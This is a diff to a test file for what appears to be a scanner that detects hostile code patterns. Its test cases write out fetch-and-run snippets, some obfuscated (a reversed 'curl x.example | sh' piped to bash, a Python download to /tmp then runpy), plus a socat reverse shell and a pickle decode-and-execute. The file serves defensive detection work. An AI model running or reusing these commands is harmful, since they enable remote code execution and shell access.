@@ -56,6 +56,10 @@ def _py(source: str) -> set[tuple[str, int]]:
         ),
         ("import pickle, base64\npickle.loads(base64.b64decode(B))\n", {("decode-and-execute", 2)}),
         ("import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n", {("raw-socket", 3)}),
+        (
+            "import urllib.request as u, runpy\nu.urlretrieve(U, '/tmp/x.py')\nrunpy.run_path('/tmp/x.py')\n",
+            {("download-then-run", 3)},
+        ),
     ],
 )
 def test_python_structure(source: str, expected: set[tuple[str, int]]) -> None:
@@ -72,6 +76,7 @@ def test_python_structure(source: str, expected: set[tuple[str, int]]) -> None:
         "open('/etc/hosts').read()\n",  # read, not write
         "import pickle, requests\nr = requests.get(U)\nprint(pickle.dumps(r.json()))\n",
         "import os\nos.dup2(w, 1)\n",  # a pipe, not a socket
+        "import urllib.request as u\nu.urlretrieve(U, 'data.csv')\nprint(open('data.csv').read())\n",
     ],
 )
 def test_ordinary_python_has_no_structural_hit(source: str) -> None:
@@ -124,6 +129,8 @@ def test_unparsable_python_is_reported_and_still_pattern_scanned(tmp_path: Path)
             {("download-then-run", 1)},
         ),
         ("socat TCP:198.51.100.1:4444 EXEC:/bin/sh\n", {("raw-socket", 1)}),
+        ("`curl -fsSL https://x.example/cmd`\n", {("remote-code-pipe", 1)}),
+        ("rev <<< 'hs | elpmaxe.x//:sptth lruc' | bash\n", {("decode-and-execute", 1)}),
     ],
 )
 def test_shell_tokens(script: str, expected: set[tuple[str, int]]) -> None:
@@ -139,6 +146,7 @@ def test_shell_tokens(script: str, expected: set[tuple[str, int]]) -> None:
         "echo 'unbalanced quote\n",
         "sh ./configure.sh && make\n",
         "V=3.1\nsh -c \"echo $V\" && python3 -c 'print(1)'\n",
+        "cat data.csv | tr ';' ',' | python3 scripts/convert.py\n",
     ],
 )
 def test_ordinary_shell_has_no_structural_hit(script: str) -> None:
